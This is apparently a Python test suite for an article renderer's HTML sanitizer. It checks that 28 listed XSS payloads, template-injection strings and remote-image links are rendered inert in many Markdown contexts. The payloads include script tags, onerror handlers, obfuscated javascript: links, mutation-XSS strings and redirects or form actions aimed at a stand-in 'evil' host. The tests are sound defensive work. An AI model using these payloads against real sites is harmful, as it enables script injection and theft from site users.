"""Attack group A: what authors could try to put into an article."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from articles.text.conditions import PLATFORMS, Names
from articles.text.including import Block, Shared
from articles.text.render import render
from articles.text.sanitize import sanitize
from kb.errors import Invalid
from tests.articles.trees import elements, problems, text

ATTACKS = {
    "A01": "<script>alert(1)</script>",
    "A02": "<img src=x onerror=alert(1)>",
    "A03": "<svg onload=alert(1)>",
    "A04": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "A05": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "A06": "[x](javascript:alert(1))",
    "A07": "[x](JaVaScRiPt:alert(1))",
    "A08": "[x](java&#115;cript:alert(1))",
    "A09": "[x](javascript&colon;alert(1))",
    "A10": "[x](java%0ascript:alert(1))",
    "A11": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "A12": "[x](vbscript:msgbox(1))",
    "A13": "[x](\x01javascript:alert(1))",
    "A14": '![x](x"onerror="alert(1))',
    "A15": '[x](x "a"onmouseover="alert(1))',
    "A16": "<javascript:alert(1)>",
    "A17": "[x]\n\n[x]: javascript:alert(1)",
    "A18": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "A19": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "A20": '<object data="javascript:alert(1)"></object><embed src="//evil/x.swf">',
    "A21": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "A22": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "A23": '<style>@import "//evil"</style><p style="position:fixed">x</p>',
    "A24": '<base href="//evil/">',
    "A25": '<meta http-equiv="refresh" content="0;url=//evil">',
    "A26": "<form action=//evil><button formaction=//evil>x</button></form>",
    "A27": '<a id=config name=attributes>x</a> <p id="config">y</p>',
    "A28": '```html"><img src=x onerror=alert(1)>\ncode\n```',
}
LINKS = [f"A{number:02}" for number in range(6, 19)]
ATTRIBUTE_LIST = '{: onclick="alert(1)" style="position:fixed" id=config }'
PLACES = {
    "alone": "{}",
    "in Chinese prose": "打印机卡纸时{}请重试",
    "in a list": "- a\n- {}",
    "in a table": "| a |\n|---|\n| {} |",
    "in an alert": "> [!NOTE]\n> {}",
    "in a tab": '=== "Windows"\n\n    {}',
    "in a heading": "## {}",
    "in a part": ":::for windows\n{}\n:::",
}
# Where a text says what it includes and for whom it is.
SINKS = {
    "the name of a block": "{{{{include: {}}}}}",
    "whom a part is for": ":::for {}\nx\n:::",
    "whom a part is for, too": ":::for windows {}\nx\n:::",
    "a block": "{{{{include: b}}}}\n\n{}",
    "a block's margin": "- a\n   {{{{include: b}}}}",
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_it_leaves_nothing_that_acts(attack: str, place: str) -> None:
    html = render(PLACES[place].format(ATTACKS[attack]), "en").html
    assert problems(html) == []
    assert problems(sanitize(html)) == []


def drawing_on(source: str) -> Shared:
    """What a text may draw on, hostile itself: a block, the name of a product."""
    products = {"outlook": source, "x": '"><img src=x onerror=alert(1)>'}
    names = Names(platforms={w: b[0] for w, b in PLATFORMS.items()}, products=products)
    return Shared(
        block=lambda _: Block(number=7, lang="zh", source=source), names=names
    )


@pytest.mark.parametrize("choice", [(), ("windows",), ("outlook",)])
@pytest.mark.parametrize("sink", SINKS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_blocks_and_parts_open_no_way(
    attack: str, sink: str, choice: tuple[str, ...]
) -> None:
    source = SINKS[sink].format(ATTACKS[attack]) + "\n\n:::for outlook x\ny\n:::"
    given = drawing_on(ATTACKS[attack])
    shared = Shared(block=given.block, names=given.names, choice=frozenset(choice))
    html = render(source, "en", shared=shared).html
    assert problems(html) == []
    assert problems(sanitize(html)) == []


@pytest.mark.parametrize("attack", LINKS)
def test_it_ignores_attribute_lists(attack: str) -> None:
    for source in (
        ATTACKS[attack] + ATTRIBUTE_LIST,
        f"{ATTACKS[attack]}\n{ATTRIBUTE_LIST}",
    ):
        assert problems(render(source, "en").html) == []


@pytest.mark.parametrize("attack", ["A06", "A07", "A08", "A09", "A11", "A12", "A17"])
def test_a_link_to_code_loses_its_address_and_keeps_its_words(attack: str) -> None:
    html = render(ATTACKS[attack], "en").html
    assert elements(html, "a") == []
    assert "x" in text(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_raw_html_passes_the_sanitizer_clean(attack: str) -> None:
    html = sanitize(ATTACKS[attack])
    assert [p for p in problems(html) if not p.startswith("img image from")] == []


def test_ids_cannot_hide_what_the_page_itself_uses() -> None:
    html = render('<a name="attributes"></a>\n\n## Config {#config}', "en").html
    assert [e["id"] for e in elements(html, "span")] == ["user-content-attributes"]
    assert [e["id"] for e in elements(html, "h2")] == ["user-content-config"]


def test_a_link_of_ours_still_works_beside_the_attacks() -> None:
    html = render("[x](https://example.com/?a=1&b=2) [y](/a/1001#卡纸)", "en").html
    assert [(e["href"], e["rel"]) for e in elements(html, "a")] == [
        ("https://example.com/?a=1&b=2", "noopener"),
        ("/a/1001#user-content-卡纸", "noopener"),
    ]


TEMPLATE_CODE = ["{{7*7}}", "{% include 'x' %}", "${7*7}", "{{ include: a b }}"]


@pytest.mark.parametrize("code", TEMPLATE_CODE)
def test_it_shows_template_code_literally(code: str) -> None:
    assert code in text(render(f"a {code} b", "en").html)
    shared = drawing_on("block")
    assert code in text(render(f"a\n\n{code}\n\nb", "en", shared=shared).html)


def test_a_box_says_only_a_language_of_ours() -> None:
    source = '!!! lang-zh ""\n    x\n\n!!! lang-fr ""\n    y\n\n<div lang="xx">z</div>'
    html = render(source, "en").html
    assert [e.get("lang") for e in elements(html, "div")] == ["zh-CN", None]


@pytest.mark.parametrize("pump", ["[", ":::for a\n", "{{include: a}}\n", ":::for "])
def test_200_kb_of_it_is_answered_with_a_clear_message_or_shown(pump: str) -> None:
    source = pump * (200_000 // len(pump))
    said = None
    try:
        html = render(source, "en", shared=drawing_on("x")).html
    except Invalid as refusal:
        said = refusal
    if said is None:
        assert problems(html) == []
    else:
        assert said.field == "source"
        assert "too long" in str(said) or "longer" in str(said)


@pytest.mark.parametrize("source", ["![p](https://evil/p.png)", "![p](//evil/p.png)"])
def test_it_fetches_no_image_from_elsewhere(source: str) -> None:
    html = render(source, "en").html
    assert elements(html, "img") == []
    assert "p" in text(html)


def test_it_shows_an_image_that_is_attached() -> None:
    html = render("![卡纸](/attachments/1001/abc)", "zh").html
    assert elements(html, "img") == [
        {"alt": "卡纸", "loading": "lazy", "src": "/attachments/1001/abc"}
    ]


def test_author_cannot_dress_as_the_interface() -> None:
    html = render("!!! danger modal btn\n    x\n\n```{.btn .modal}\nx\n```", "en").html
    classes = {name for e in elements(html, "div") for name in e["class"].split()}
    assert classes <= {"admonition", "danger", "highlight"}


PIECES = (
    *("**", "`", "```\n", "> ", "- ", "# ", "|", "\n", "\n\n", " ", "[", "](", ")"),
    *("<", ">", "&", '"', "!!! note\n    ", '=== "a"\n\n    ', "中文", "\x02", "<b>"),
    *(":::for windows\n", ":::\n", "{{include: b}}\n", '!!! part "a"\n    '),
    *("{: onclick=x }", "++ctrl+c++", "[^1]", "[^1]: x", "</p>", "<li>"),
    *ATTACKS.values(),
)
MARKDOWN = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


UNSTABLE = (
    "[^1]: x<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><li>'
)


@settings(max_examples=200, deadline=None)
@example(UNSTABLE)
@given(MARKDOWN)
def test_any_mixture_is_clean_and_cleaning_it_again_changes_nothing(
    source: str,
) -> None:
    for shared in (None, drawing_on(source)):
        html = render(source, "en", shared=shared).html
        assert problems(html) == []
        assert sanitize(html) == html
